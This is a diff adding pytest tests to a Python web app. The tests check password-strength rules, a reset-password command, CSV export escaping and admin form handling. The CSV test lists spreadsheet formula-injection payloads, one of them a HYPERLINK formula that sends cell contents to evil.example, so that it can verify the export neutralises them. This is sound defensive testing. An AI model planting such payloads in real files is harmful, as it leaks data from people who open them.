@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import re
 import time
 import zlib
@@ -15,11 +17,13 @@ from sqlalchemy import func
 from sqlalchemy import select
 from sqlalchemy import text
 
+from pagegrid import billing
 from pagegrid import clock
 from pagegrid import config
 from pagegrid import create_app
 from pagegrid import crypto
 from pagegrid import onetime
+from pagegrid import spreadsheet
 from pagegrid.dashboard import docs
 from pagegrid.extensions import db
 from pagegrid.models import ApiKey
@@ -376,3 +380,97 @@ def test_forwarded_for_counts_only_from_trusted_proxies(app, database_url, walle
     with proxied.app_context():
         db.session.remove()
         db.engine.dispose()
+
+
+# Passwords -----------------------------------------------------------------------------------
+
+WEAK = [("short-pw", "at least 12"), ("password1234", "guess"), ("qwertyuiop12", "guess"),
+        ("alice.smith-2026!", "email"), ("ALICE.SMITH@EXAMPLE.COM", "email"), ("x" * 201, "at most 200")]
+
+
+@pytest.mark.parametrize(("password", "why"), WEAK)
+def test_weak_passwords_are_refused_by_the_cli(runner, password, why):
+    result = runner.invoke(args=["create-user", "alice.smith@example.com", "--password", password])
+    assert result.exit_code != 0 and why in result.output.lower()
+    assert runner.invoke(args=["create-user", "alice.smith@example.com", "--password", NEW_PASSWORD]
+                         ).exit_code == 0
+
+
+@pytest.mark.parametrize(("password", "why"), WEAK)
+def test_weak_passwords_are_refused_in_the_dashboard_and_admin(app, wallets, password, why):
+    wallets.user("0", email="boss@example.com", admin=True)
+    user_id = wallets.user("1", email="alice.smith@example.com")
+    admin, alice = Browser(app), Browser(app)
+    admin.login("boss@example.com")
+    alice.login("alice.smith@example.com")
+    pages = [
+        alice.post("/account/password", {"current": PASSWORD, "new": password, "confirm": password},
+                   token_from="/account/password"),
+        admin.post(f"/admin/users/{user_id}/password", {"new": password, "confirm": password},
+                   token_from=f"/admin/users/{user_id}"),
+        admin.post("/admin/users/new", {"email": "alice.smith@example.org", "password": password},
+                   token_from="/admin/users/new"),
+    ]
+    for page in pages:
+        assert page.status_code == 200 and why in page.get_data(as_text=True).lower()
+    assert Browser(app).login("alice.smith@example.com").status_code == 302  # unchanged
+
+
+def test_reset_password_command(app, runner, wallets):
+    user_id = wallets.user("0", email="boss@example.com", admin=True)
+    b = Browser(app)
+    b.login("boss@example.com")
+    weak = runner.invoke(args=["reset-password", "boss@example.com"], input="password1234\npassword1234\n")
+    assert weak.exit_code != 0
+    result = runner.invoke(args=["reset-password", "BOSS@example.com"],
+                           input=f"{NEW_PASSWORD}\n{NEW_PASSWORD}\n")
+    assert result.exit_code == 0, result.output
+    assert NEW_PASSWORD not in result.output
+    assert not logged_in(b)
+    assert Browser(app).login("boss@example.com", NEW_PASSWORD).status_code == 302
+    assert runner.invoke(args=["reset-password", "nobody@example.com", "--password", NEW_PASSWORD]
+                         ).exit_code != 0
+    assert user_id
+
+
+# CSV exports and missing fields ------------------------------------------------------------
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1)",
+                                  "\t=1"])
+def test_csv_cells_are_never_formulas(app, wallets, browser, name):
+    user_id = wallets.user("1")
+    wallets.key(user_id, name=name)
+    with app.app_context():  # a credit row whose note starts with a formula too
+        billing.credit(user_id, 5, name)
+    assert browser.login(wallets.email(user_id)).status_code == 302
+    rows = list(csv.DictReader(io.StringIO(browser.get("/wallet/transactions.csv").get_data(as_text=True))))
+    notes = [r["note"] for r in rows if r["kind"] == "credit"]
+    assert f"'{name}" in notes
+    assert all(not cell.startswith(("=", "+", "@", "\t")) for r in rows for cell in r.values())
+    # Numbers stay numbers, negative amounts included.
+    assert all(spreadsheet.NUMBER.fullmatch(r["amount_usd"]) for r in rows)
+    assert spreadsheet.safe_row(["-0.000052550", 3, "-x"]) == ["-0.000052550", 3, "'-x"]
+
+
+def test_admin_upstream_edit_without_the_key_field_is_a_form_answer_not_500(app, wallets):
+    wallets.user("0", email="boss@example.com", admin=True)
+    admin = Browser(app)
+    admin.login("boss@example.com")
+    with app.app_context():
+        row = Upstream(provider="anthropic", name="spare", base_url="http://127.0.0.1:9",
+                       api_key="sk-ant-kept", enabled=False)
+        db.session.add(row)
+        db.session.commit()
+        upstream_id = row.id
+    edit = f"/admin/upstreams/{upstream_id}/edit"
+    for data in ({"provider": "anthropic", "name": "renamed", "base_url": "http://127.0.0.1:9"},
+                 {"provider": "anthropic"}, {}):
+        response = admin.post(edit, data, token_from=edit)
+        assert response.status_code in (200, 302), data
+    with app.app_context():
+        row = db.session.get(Upstream, upstream_id)
+        assert (row.name, row.api_key) == ("renamed", "sk-ant-kept")
+    new = admin.post("/admin/upstreams/new", {"provider": "anthropic", "name": "x",
+                                              "base_url": "http://127.0.0.1:9"},
+                     token_from="/admin/upstreams/new")
+    assert new.status_code == 200 and "Enter the account" in new.get_data(as_text=True)
